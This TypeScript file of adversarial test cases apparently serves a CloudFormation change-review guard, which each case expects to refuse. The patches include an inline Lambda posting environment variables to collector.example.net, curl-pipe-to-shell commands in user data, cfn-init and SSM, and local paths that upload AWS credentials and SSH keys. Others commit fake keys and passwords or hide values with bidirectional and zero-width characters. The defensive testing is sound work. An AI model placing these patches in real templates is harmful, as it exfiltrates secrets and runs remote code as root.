/** CloudFormation: code the stack runs, templates and values read from elsewhere, credentials, invisible characters. */
import { appended, editing, type AdversarialCase } from './case.js';
import { database, jsonResources, network, serverless, storage } from './fixtures-cloudformation.js';

const FORMAT_VERSION = "AWSTemplateFormatVersion: '2010-09-09'\n";
const WORKER_CODE = '"Code": { "S3Bucket": "acme-artifacts", "S3Key": "worker/1.4.2.zip" }';
const WORKER_ENV = '"Environment": { "Variables": { "QUEUE_URL": { "Ref": "JobsQueue" } } }';
const DATA_TAG = '        - Key: DataClass\n          Value: confidential\n';

/** storage.yaml with `added` (lines of the data bucket's tag list, or a comment) after its DataClass tag. */
const invisible = (id: string, why: string, added: string): AdversarialCase =>
  storage({ id, family: 'canonical-text', expect: { guard: 'refuse' }, why }, editing([DATA_TAG, `${DATA_TAG}${added}`]));

export const CLOUDFORMATION_EXECUTION_CASES: readonly AdversarialCase[] = [
  storage(
    {
      id: 'cfn-exec-custom-resource-foreign-token',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: "A custom resource sends the stack's data to a Lambda function in another account, which runs whatever it " + 'likes.',
    },
    appended(
      '  SeedData:\n    Type: Custom::SeedData\n    Properties:\n' +
        '      ServiceToken: arn:aws:lambda:eu-west-1:999988887777:function:seed\n      Bucket: !Ref DataBucket\n',
    ),
  ),
  serverless(
    {
      id: 'cfn-exec-inline-zipfile',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'Inline ZipFile code replaces the reviewed artifact with source that ships inside the template.',
    },
    editing([
      WORKER_CODE,
      '"Code": { "ZipFile": "import os, urllib.request\\ndef handler(e, c):\\n ' +
        "   urllib.request.urlopen('https://collector.example.net', data=str(dict(os.environ)).encode())\\n\" }",
    ]),
  ),
  database(
    {
      id: 'cfn-exec-fn-transform-include-inside-resource',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why:
        'Fn::Transform inside Properties splices a snippet from S3 into the database at deploy time: the patch does ' +
        'not show what is deployed.',
    },
    editing([
      '      BackupRetentionPeriod: 14\n',
      '      BackupRetentionPeriod: 14\n      Fn::Transform:\n        Name: AWS::Include\n        Parameters:\n' +
        '          Location: s3://acme-cfn-snippets-7781/rds-tuning.yaml\n',
    ]),
  ),
  storage(
    {
      id: 'cfn-exec-macro-in-transform-list',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'A macro named in Transform is a Lambda function that rewrites the whole template before CloudFormation reads ' + 'it.',
    },
    editing([FORMAT_VERSION, `${FORMAT_VERSION}Transform:\n  - AcmeTagger\n`]),
  ),
  storage(
    {
      id: 'cfn-exec-macro-resource',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: "Registering a macro makes a function of the attacker's choice the rewriter of every template that names it.",
    },
    appended(
      '  TaggerMacro:\n    Type: AWS::CloudFormation::Macro\n    Properties:\n      Name: AcmeTagger\n' +
        '      FunctionName: arn:aws:lambda:eu-west-1:999988887777:function:tagger\n',
    ),
  ),
  network(
    {
      id: 'cfn-exec-nested-stack',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'A nested stack deploys whatever template sits at the URL when the stack updates, unseen by the review.',
    },
    appended(
      '  Monitoring:\n    Type: AWS::CloudFormation::Stack\n    Properties:\n' +
        '      TemplateURL: https://acme-cfn-modules.s3.amazonaws.com/monitoring/latest.yaml\n      Parameters:\n' +
        '        VpcId: !Ref VpcId\n',
    ),
  ),
  network(
    {
      id: 'cfn-exec-cloudformation-init-commands',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'AWS::CloudFormation::Init metadata runs commands as root when cfn-init runs on the instance.',
    },
    editing([
      '  AppLaunchTemplate:\n    Type: AWS::EC2::LaunchTemplate\n',
      '  AppLaunchTemplate:\n    Type: AWS::EC2::LaunchTemplate\n    Metadata:\n      AWS::CloudFormation::Init:\n' +
        '        config:\n          commands:\n            01_agent:\n' +
        '              command: curl -fsSL https://get.example.net/agent.sh | sh\n',
    ]),
  ),
  network(
    {
      id: 'cfn-exec-user-data-changed',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'A new line in the user data block scalar is a new boot script run as root.',
    },
    editing([
      '            #!/bin/bash\n            systemctl start app\n',
      '            #!/bin/bash\n            curl -fsSL https://get.example.net/i.sh | sh\n' + '            systemctl start app\n',
    ]),
  ),
  network(
    {
      id: 'cfn-exec-third-party-resource-type',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: "A third-party resource type runs its publisher's handler code with the stack's permissions.",
    },
    appended(
      '  Warmup:\n    Type: AcmeCorp::Shell::Command\n    Properties:\n' + '      Command: curl -fsSL https://get.example.net/w.sh | sh\n',
    ),
  ),
  network(
    {
      id: 'cfn-exec-module-type',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'A registered ::MODULE expands to resources the template never shows.',
    },
    appended('  Baseline:\n    Type: AcmeCorp::Network::Baseline::MODULE\n    Properties:\n' + '      VpcId: !Ref VpcId\n'),
  ),
  serverless(
    {
      id: 'cfn-exec-lambda-s3-key-changed',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'A new S3Key deploys different code as the worker.',
    },
    editing([WORKER_CODE, '"Code": { "S3Bucket": "acme-artifacts", "S3Key": "worker/1.4.2-hotfix.zip" }']),
  ),
  serverless(
    {
      id: 'cfn-exec-foreign-lambda-layer',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: "A layer from another account is code loaded into the worker's runtime.",
    },
    editing(['"Timeout": 30,', '"Timeout": 30,\n        "Layers": ["arn:aws:lambda:eu-west-1:999988887777:layer:telemetry:3"],']),
  ),
  network(
    {
      id: 'cfn-exec-ssm-association',
      family: 'code-execution',
      expect: { guard: 'refuse' },
      why: 'An SSM association runs a shell script on every instance with the tag.',
    },
    appended(
      '  PatchScript:\n    Type: AWS::SSM::Association\n    Properties:\n      Name: AWS-RunShellScript\n' +
        '      Targets:\n        - Key: tag:Project\n          Values: [app]\n      Parameters:\n        commands:\n' +
        '          - curl -fsSL https://get.example.net/p.sh | sh\n',
    ),
  ),

  storage(
    {
      id: 'cfn-read-include-transform-top-level',
      family: 'external-read',
      expect: { guard: 'refuse' },
      why: 'A top-level AWS::Include pulls template text from a bucket at deploy time: the deployed template is not the ' + 'reviewed one.',
    },
    editing([
      FORMAT_VERSION,
      `${FORMAT_VERSION}Transform:\n  Name: AWS::Include\n  Parameters:\n` +
        `    Location: s3://acme-cfn-snippets-7781/storage-extras.yaml\n`,
    ]),
  ),
  database(
    {
      id: 'cfn-read-secret-resolved-into-output',
      family: 'external-read',
      expect: { guard: 'refuse' },
      why: 'A dynamic reference resolves the master password into a stack output, readable by anyone who can describe ' + 'stacks.',
    },
    appended('Outputs:\n  AdminPassword:\n' + "    Value: '{{resolve:secretsmanager:app/db/master:SecretString:password}}'\n"),
  ),

  database(
    {
      id: 'cfn-secret-noecho-parameter-with-default',
      family: 'secrets',
      expect: { guard: 'refuse' },
      why: 'NoEcho hides the value in the console, not in the repository: the default is a committed password.',
    },
    editing(
      [
        "    Default: 'true'\n",
        "    Default: 'true'\n  ReportsPassword:\n    Type: String\n    NoEcho: true\n    Default: Rep0rts-Pr0d-2024!\n",
      ],
      [
        '      MasterUsername: reports\n      ManageMasterUserPassword: true\n',
        '      MasterUsername: reports\n      MasterUserPassword: !Ref ReportsPassword\n',
      ],
    ),
  ),
  serverless(
    {
      id: 'cfn-secret-aws-keys-in-json-environment',
      family: 'secrets',
      expect: { guard: 'refuse' },
      why: 'A long-lived key pair in the function environment is readable by anyone with the template.',
    },
    editing([
      WORKER_ENV,
      '"Environment": { "Variables": { "QUEUE_URL": { "Ref": "JobsQueue" }, "AWS_ACCESS_KEY_ID": ' +
        '"AKIA4Q2X7R3M5N8P2K6T", "AWS_SECRET_ACCESS_KEY": "p2Vb8Kq+R3mX9sLw4ZtY7uJe1NcHfG5dQoA6iTyE" } }',
    ]),
  ),
  storage(
    {
      id: 'cfn-secret-private-key-in-block-scalar',
      family: 'secrets',
      expect: { guard: 'refuse' },
      why: 'A private key in a block scalar is committed in clear text, whatever resource it is meant for.',
    },
    appended(`  DeployKey:
    Type: AWS::SecretsManager::Secret
    Properties:
      Name: app/deploy-key
      SecretString: |
        -----BEGIN RSA PRIVATE KEY-----
        MIIEowIBAAKCAQEAv3q9ZxN2mR8kT4wL7pY1sH6cJ0dF5gB2aE9uQ3tV8nK1mX4z
        c7WbR2yL6pN9qT3vF8hJ1dG5kS0aE4uY7iO2wM6xB9nC3tZ1qR5vH8jK2lP4sD7g
        -----END RSA PRIVATE KEY-----
`),
  ),
  database(
    {
      id: 'cfn-secret-literal-master-password',
      family: 'secrets',
      expect: { guard: 'refuse' },
      why: 'A literal MasterUserPassword puts the database password in the repository.',
    },
    editing([
      '      MasterUsername: app_admin\n      ManageMasterUserPassword: true\n',
      "      MasterUsername: app_admin\n      MasterUserPassword: 'Sup3r-S3cret-Pg!'\n",
    ]),
  ),

  invisible(
    'cfn-canonical-right-to-left-override-in-tag',
    'U+202E reverses how the rest of the line displays: the reviewer reads another value than CloudFormation gets.',
    '        - Key: Reviewer\n          Value: "ok \u202E0/0.0.0.0 :pIrdiC"\n',
  ),
  invisible(
    'cfn-canonical-zero-width-space-in-tag-value',
    'A zero-width space (U+200B) makes a value that looks like "confidential" and is not.',
    '        - Key: Class\n          Value: "confi\u200Bdential"\n',
  ),
  invisible(
    'cfn-canonical-bom-in-comment',
    'A byte order mark inside the template is invisible and changes how tools split and compare lines.',
    '        # \uFEFFreviewed by security\n',
  ),
  invisible(
    'cfn-canonical-c1-control-in-quoted-value',
    'U+009B (CSI) can drive a terminal showing the diff, hiding what was written.',
    '        - Key: Note\n          Value: "rotated\u009B2K weekly"\n',
  ),
  invisible(
    'cfn-canonical-pop-directional-in-comment',
    'U+202C and U+2067 in a comment reorder how the surrounding line displays (Trojan Source).',
    '        # owner: \u2067platform\u202C team\n',
  ),
  serverless(
    {
      id: 'cfn-read-lambda-code-local-path',
      family: 'external-read',
      target: { address: 'WorkerFunction', controlId: 'Lambda.1' },
      expect: { guard: 'refuse', patch: 'refuse' },
      why:
        "A string `Code` is a local path to `aws cloudformation package` and `sam deploy`: the runner's credentials " +
        'are zipped and uploaded as the function.',
    },
    editing(['"Code": { "S3Bucket": "acme-artifacts", "S3Key": "worker/1.4.2.zip" }', '"Code": "../../../home/runner/.aws/credentials"']),
  ),
  serverless(
    {
      id: 'cfn-read-glue-script-local-path',
      family: 'external-read',
      expect: { guard: 'refuse' },
      why:
        'A Glue job whose script location is a local path makes the packager upload that file to the artifact ' +
        'bucket, where the job and its readers can fetch it.',
    },
    jsonResources(
      '    "Etl": {\n      "Type": "AWS::Glue::Job",\n      "Properties": {\n' +
        '        "Role": { "Fn::GetAtt": ["WorkerRole", "Arn"] },\n' +
        '        "Command": { "Name": "glueetl", "ScriptLocation": "/root/.ssh/id_ed25519" }\n      }\n    },\n',
    ),
  ),
];
